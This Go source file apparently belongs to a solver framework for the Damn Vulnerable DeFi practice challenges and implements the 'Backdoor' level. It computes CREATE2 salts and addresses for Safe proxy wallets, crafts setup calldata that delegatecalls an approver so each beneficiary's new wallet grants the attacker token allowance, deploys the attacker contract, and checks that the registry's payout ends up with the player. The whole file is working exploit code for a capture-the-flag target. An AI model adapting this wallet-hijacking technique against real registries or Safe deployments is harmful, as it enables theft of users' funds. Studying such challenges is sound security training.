package scenarios

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/log"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/oracle"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
)

// SafeProxySalt is the CREATE2 salt of createProxyWithCallback:
// keccak256(keccak256(initializer) ++ keccak256(saltNonce ++ callback)).
func SafeProxySalt(initializer []byte, saltNonce *big.Int, callback common.Address) common.Hash {
	nonceWithCallback := crypto.Keccak256(common.LeftPadBytes(saltNonce.Bytes(), 32), callback.Bytes())
	return crypto.Keccak256Hash(crypto.Keccak256(initializer), nonceWithCallback)
}

// SafeProxyInitCode is the proxy creation code followed by the singleton
// as a constructor word.
func SafeProxyInitCode(creationCode []byte, singleton common.Address) []byte {
	return append(append([]byte(nil), creationCode...), addressWord(singleton)...)
}

// backdoorInitializer sets a Safe up for owner while delegatecalling the
// approver, so the new wallet approves spender on token.
func backdoorInitializer(owner, approver, token, spender common.Address) ([]byte, error) {
	approve, err := payload.EncodeCall("approveToken(address,address)", token, spender)
	if err != nil {
		return nil, err
	}
	var zero common.Address
	return payload.EncodeCall(safeSetup,
		[]common.Address{owner}, big.NewInt(1), approver, approve, zero, zero, new(big.Int), zero)
}

// Backdoor registers a Safe for every beneficiary in a single transaction.
// Each Safe's setup delegatecalls an approver that lets the attacker move
// the wallet's tokens, so the registry's payout lands with the player.
//
// Addresses: registry, factory, singleton, token, beneficiary-* (one per
// beneficiary). Code: backdoor-attacker, built with constructor(address
// factory, address singleton, address registry, address token, bytes[]
// initializers, uint256 saltNonce); it first deploys the approver and then
// creates one wallet per initializer. Optional code: safe-proxy-creation,
// otherwise read from the factory.
func Backdoor(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("registry", "factory", "singleton", "token")
	if err != nil {
		return nil, err
	}
	beneficiaries := p.prefixed("beneficiary-")
	if len(beneficiaries) == 0 {
		return nil, errs.NewConfigError("no beneficiaries configured", "addresses.beneficiary-*")
	}
	attackerCode, err := p.code("backdoor-attacker")
	if err != nil {
		return nil, err
	}
	creation, ok := p.Code["safe-proxy-creation"]
	if !ok {
		if creation, err = proxyCreationCode(ctx, p, addrs["factory"]); err != nil {
			return nil, err
		}
	}
	proxyInit := SafeProxyInitCode(creation, addrs["singleton"])

	nonce, err := p.accountNonce(ctx, "player-nonce", p.Player)
	if err != nil {
		return nil, err
	}
	attacker := oracle.PredictUint64(p.Player, nonce)
	// the attacker's own first creation, at contract nonce 1
	approver := oracle.PredictUint64(attacker, 1)
	addrs["player"] = p.Player
	addrs["backdoor-attacker"] = attacker
	addrs["approver"] = approver

	saltNonce := p.amount("salt-nonce", new(big.Int))
	steps := []exploit.Step{
		&exploit.PredictAddress{Name: "attacker-address", Deployer: exploit.Ref("player"), Expect: to("backdoor-attacker")},
		&exploit.PredictAddress{Name: "approver-address", Deployer: exploit.Ref("backdoor-attacker"), Nonce: big.NewInt(1), Expect: to("approver")},
	}
	var (
		initializers [][]byte
		post         []exploit.Postcondition
	)
	for i, owner := range beneficiaries {
		initializer, err := backdoorInitializer(owner, approver, addrs["token"], attacker)
		if err != nil {
			return nil, err
		}
		initializers = append(initializers, initializer)
		salt := SafeProxySalt(initializer, saltNonce, addrs["registry"])
		wallet := oracle.PredictCreate2(addrs["factory"], salt, proxyInit)
		name := fmt.Sprintf("wallet-%d", i)
		addrs[name] = wallet

		steps = append(steps, &exploit.PredictAddress{
			Name:     name + "-address",
			Deployer: exploit.Ref("factory"),
			Create2:  &exploit.Create2{Salt: salt, InitCode: proxyInit},
			Expect:   to(name),
		})
		walletsOf, err := payload.EncodeCall("wallets(address)", owner)
		if err != nil {
			return nil, err
		}
		isBeneficiary, err := payload.EncodeCall("beneficiaries(address)", owner)
		if err != nil {
			return nil, err
		}
		post = append(post,
			exploit.HasCode(exploit.Ref(name)),
			exploit.CallReturns(exploit.Ref("registry"), walletsOf, addressWord(wallet)),
			exploit.CallReturns(exploit.Ref("registry"), isBeneficiary, uintWord(0)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref(name), new(big.Int)),
		)
	}

	deploy, err := deployData(attackerCode, "address,address,address,address,bytes[],uint256",
		addrs["factory"], addrs["singleton"], addrs["registry"], addrs["token"], initializers, saltNonce)
	if err != nil {
		return nil, err
	}
	payout, err := p.tokenBalance(ctx, "registry-tokens", addrs["token"], addrs["registry"])
	if err != nil {
		return nil, err
	}
	owned, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	log.Info("backdoor wallets predicted", "attacker", attacker, "approver", approver, "wallets", len(beneficiaries))

	steps = append(steps, &exploit.SubmitCall{
		Name:           "backdoor-attacker",
		Data:           deploy,
		RequireAddress: "approver-address",
	})
	post = append(post,
		exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("player"), new(big.Int).Add(owned, payout)),
		// everything happens in the deployment itself
		exploit.NonceEquals(exploit.Ref("player"), nonce+1),
	)

	return &exploit.Config{
		Name:           "backdoor",
		Addresses:      addrs,
		Watch:          []common.Address{p.Player},
		Steps:          steps,
		Postconditions: post,
	}, nil
}

func proxyCreationCode(ctx context.Context, p Params, factory common.Address) ([]byte, error) {
	if p.Ledger == nil {
		return nil, errs.NewConfigError("proxy creation code unknown", "code.safe-proxy-creation")
	}
	sel := payload.EncodeSelector("proxyCreationCode()")
	out, err := p.Ledger.Call(ctx, factory, sel[:])
	if err != nil {
		return nil, err
	}
	values, err := payload.DecodeArguments("bytes", out)
	if err != nil {
		return nil, err
	}
	return values[0].([]byte), nil
}
